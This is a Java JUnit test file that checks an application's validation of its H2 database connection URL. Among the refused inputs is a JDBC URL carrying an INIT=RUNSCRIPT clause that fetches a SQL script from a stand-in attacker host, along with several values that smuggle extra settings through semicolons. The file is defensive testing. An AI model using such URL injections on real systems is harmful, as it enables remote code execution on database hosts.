package dev.knight.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import dev.knight.job.MisconfiguredException;
import java.nio.file.Path;
import java.util.Optional;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class StoreUrlTest {
  private static final Path HOME = Path.of("/home/ada/.knight");
  private static final String SETTINGS =
      ";WRITE_DELAY=0;DB_CLOSE_DELAY=-1;DB_CLOSE_ON_EXIT=FALSE;TRACE_LEVEL_FILE=0;QUERY_CACHE_SIZE=0;OPTIMIZE_REUSE_RESULTS=0;CACHE_SIZE=4096";

  @Test
  void the_store_lies_in_the_home_unless_the_operator_says_otherwise() {
    assertThat(StoreUrl.of(HOME, Optional.empty()))
        .isEqualTo("jdbc:h2:file:/home/ada/.knight/store/knight" + SETTINGS);
  }

  @Test
  void the_documented_default_may_be_written_out() {
    assertThat(StoreUrl.of(HOME, Optional.of("jdbc:h2:file:$KNIGHT_HOME/store/knight")))
        .isEqualTo(StoreUrl.of(HOME, Optional.empty()));
  }

  @Test
  void another_place_is_taken_with_the_same_settings() {
    assertThat(StoreUrl.of(HOME, Optional.of("jdbc:h2:file:/srv/a b/../knight")))
        .isEqualTo("jdbc:h2:file:/srv/knight" + SETTINGS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "/srv/knight",
        "jdbc:h2:/srv/knight",
        "jdbc:h2:mem:knight",
        "jdbc:h2:tcp://db.example/knight",
        "jdbc:h2:ssl://db.example/knight",
        "jdbc:h2:zip:/srv/knight.zip!/knight",
        "jdbc:h2:file:knight",
        "jdbc:h2:file:./knight",
        "jdbc:h2:file:~/knight",
        "jdbc:h2:file:nio:/srv/knight",
        "jdbc:h2:file:mem:knight",
        "jdbc:h2:file:/",
        "jdbc:h2:file:/srv/",
        "jdbc:h2:file:/srv/knight;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:h2:file:/srv/knight;AUTO_SERVER=TRUE",
        "jdbc:h2:file:/srv/knight;TRACE_LEVEL_FILE=3",
        "jdbc:h2:file:/srv/knight;WRITE_DELAY=500",
        "jdbc:h2:file:/srv/knight\\;INIT=x",
        "jdbc:h2:file:/srv/${user.name}",
        "jdbc:h2:file:/srv/kni\0ght",
        "jdbc:mysql://db.example/knight",
      })
  void what_would_open_something_else_is_refused_with_the_default(String configured) {
    assertThatExceptionOfType(MisconfiguredException.class)
        .isThrownBy(() -> StoreUrl.of(HOME, Optional.of(configured)))
        .withMessageContaining("knight.store.url")
        .withMessageContaining("jdbc:h2:file:$KNIGHT_HOME/store/knight");
  }

  @Test
  void postgresql_is_refused_with_the_build_that_it_needs() {
    assertThatExceptionOfType(MisconfiguredException.class)
        .isThrownBy(() -> StoreUrl.of(HOME, Optional.of("jdbc:postgresql://db/knight")))
        .withMessageContaining("fleet build");
  }

  @Test
  void a_home_whose_name_would_set_something_is_refused() {
    assertThatExceptionOfType(MisconfiguredException.class)
        .isThrownBy(() -> StoreUrl.of(Path.of("/home/a;INIT=x"), Optional.empty()))
        .withMessageContaining("';'");
  }
}
